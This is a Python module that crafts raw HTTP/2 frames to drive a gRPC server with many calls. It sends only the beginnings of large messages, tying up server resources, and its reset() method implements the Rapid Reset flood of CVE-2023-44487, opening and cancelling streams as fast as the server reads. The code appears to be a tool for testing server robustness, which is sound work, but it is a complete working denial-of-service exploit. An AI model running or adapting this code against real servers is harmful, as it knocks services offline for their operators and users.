"""A gRPC client that never finishes its messages, which no library allows: frames of HTTP/2 (RFC
9113) by hand.
"""

import socket
import struct
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager, suppress

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA = 0
_HEADERS = 1
_RST_STREAM = 3
_SETTINGS = 4
_PING = 6
_WINDOW_UPDATE = 8
_ACK = 1
_END_HEADERS = 4
_FRAME_BYTES = 16_384
_CANCEL = 8


class UnfinishedCalls:
    """One connection with several calls, each with the start of one large message."""

    def __init__(
        self, connection: socket.socket, method: str, num_calls: int, metadata: dict[str, str]
    ) -> None:
        self._connection = connection
        self._connection.settimeout(0.2)
        self._received = b""
        self._window = Counter({0: 65_535})  # key: stream; 0 is the connection
        self.calls = [1 + 2 * number for number in range(num_calls)]
        self._connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
        headers = {
            ":method": "POST",
            ":scheme": "http",
            ":path": method,
            ":authority": "a",
            "te": "trailers",
        }
        self._block = b"".join(
            map(
                _literal,
                *zip(
                    *(headers | {"content-type": "application/grpc"} | metadata).items(),
                    strict=True,
                ),
            )
        )
        for call in self.calls:
            self._window[call] = 65_535
            self._connection.sendall(_frame(_HEADERS, _END_HEADERS, call, self._block))

    def reset(self, num_calls: int) -> int:
        """Begin and cancel calls, as fast as the server reads (CVE-2023-44487).

        Return the number that were sent.
        """
        begun = max(self.calls, default=-1) + 2
        for number, call in enumerate(range(begun, begun + 2 * num_calls, 2)):
            frames = _frame(_HEADERS, _END_HEADERS, call, self._block)
            try:
                self._connection.sendall(frames + _frame(_RST_STREAM, 0, call, _CANCEL.to_bytes(4)))
            except OSError:  # the server has closed the connection or receives no more
                return number
        return num_calls

    def send(self, num_bytes: int) -> int:
        """Send the first `num_bytes` of a longer message in each call, as far as allowed.

        Return the sum of bytes.
        """
        left = dict.fromkeys(self.calls, num_bytes)
        begun = b"\0" + struct.pack(">I", num_bytes + 1_000_000)
        sent = 0
        # the server has closed the connection or receives no more: `sent` says when
        with suppress(OSError):
            for call in self.calls:
                self._connection.sendall(_frame(_DATA, 0, call, begun))
                self._take(call, len(begun))
            while any(left.values()) and self._receive():
                for call in self.calls:
                    while size := min(
                        left[call], self._window[0], self._window[call], _FRAME_BYTES
                    ):
                        self._connection.sendall(_frame(_DATA, 0, call, bytes(size)))
                        self._take(call, size)
                        left[call] -= size
                        sent += size
        return sent

    def _take(self, call: int, size: int) -> None:
        self._window[0] -= size
        self._window[call] -= size

    def _receive(self) -> bool:
        """Read frames; return False if the server sends none for a while."""
        try:
            self._received += self._connection.recv(1 << 20)
        except TimeoutError:
            return False
        for kind, flags, stream, content in self._frames():
            if kind == _WINDOW_UPDATE:
                self._window[stream] += struct.unpack(">I", content)[0]
            elif kind in (_SETTINGS, _PING) and not flags & _ACK:
                self._connection.sendall(_frame(kind, _ACK, 0, content if kind == _PING else b""))
        return True

    def _frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        while len(self._received) >= 9:
            size = int.from_bytes(self._received[:3])
            if len(self._received) < 9 + size:
                return
            kind = self._received[3]
            flags = self._received[4]
            stream = int.from_bytes(self._received[5:9])
            content, self._received = self._received[9 : 9 + size], self._received[9 + size :]
            yield kind, flags, stream, content


@contextmanager
def unfinished_calls(
    address: str, method: str, num_calls: int, source: str = "127.0.0.1", **metadata: str
) -> Iterator[UnfinishedCalls]:
    """Connect to a gRPC server, from an address of this host, and begin calls."""
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), source_address=(source, 0)) as connection:
        yield UnfinishedCalls(connection, method, num_calls, metadata)


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return len(content).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + content


def _literal(name: str, value: str) -> bytes:
    """Return a header without compression and index (RFC 7541, 6.2.2)."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
